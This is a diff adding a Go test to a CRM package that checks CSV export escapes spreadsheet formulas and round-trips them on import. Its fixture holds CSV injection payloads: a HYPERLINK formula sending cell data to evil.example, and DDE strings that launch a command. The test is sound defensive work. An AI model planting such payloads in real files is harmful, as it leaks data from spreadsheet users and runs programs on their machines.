@@ -1,6 +1,9 @@
 package crm_test
 
 import (
+	"bytes"
+	"encoding/csv"
+	"fmt"
 	"strings"
 	"testing"
 
@@ -57,4 +60,43 @@ func TestS10AuditCSVFilesAsPeopleHaveThem(t *testing.T) {
 			}
 		}
 	}, setup)
+}
+
+// TestS10AuditCSVExportIsNotAFormula: values that a spreadsheet would run
+// as formulas — a name a web form or a platform profile handed in — are
+// exported as text (an apostrophe in front, as spreadsheets mark such
+// text), phone numbers and plain values as they are; importing the export
+// back restores each value exactly and changes nothing.
+func TestS10AuditCSVExportIsNotAFormula(t *testing.T) {
+	each(t, func(t *testing.T, e *env) {
+		c := e.store.Contacts()
+		evil := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"}
+		var ids []string
+		for i, name := range evil {
+			ct, err := c.Create(e.A, crm.ContactInput{FirstName: name, LastName: "Plain", Email: fmt.Sprintf("f%d@example.com", i), Phone: fmt.Sprintf("+1415555%04d", i)})
+			require.NoError(t, err)
+			ids = append(ids, ct.ID)
+		}
+		var out bytes.Buffer
+		_, err := c.ExportCSV(e.A, &out, crm.ContactFilter{})
+		require.NoError(t, err)
+		r := csv.NewReader(bytes.NewReader(out.Bytes()))
+		recs, err := r.ReadAll()
+		require.NoError(t, err)
+		for _, rec := range recs[1:] {
+			for _, cell := range rec {
+				if cell != "" && strings.ContainsRune("=@+-\t\r", rune(cell[0])) {
+					require.Regexp(t, `^\+[0-9]+$`, cell, "a cell a spreadsheet would run: %q", cell)
+				}
+			}
+		}
+		rep, err := c.ImportCSV(e.A, bytes.NewReader(out.Bytes()), crm.ImportOptions{})
+		require.NoError(t, err)
+		require.Equal(t, len(evil), rep.Unchanged, "%+v", rep.Results)
+		for i, id := range ids {
+			got, err := c.Get(e.A, id)
+			require.NoError(t, err)
+			require.Equal(t, evil[i], got.FirstName)
+		}
+	})
 }
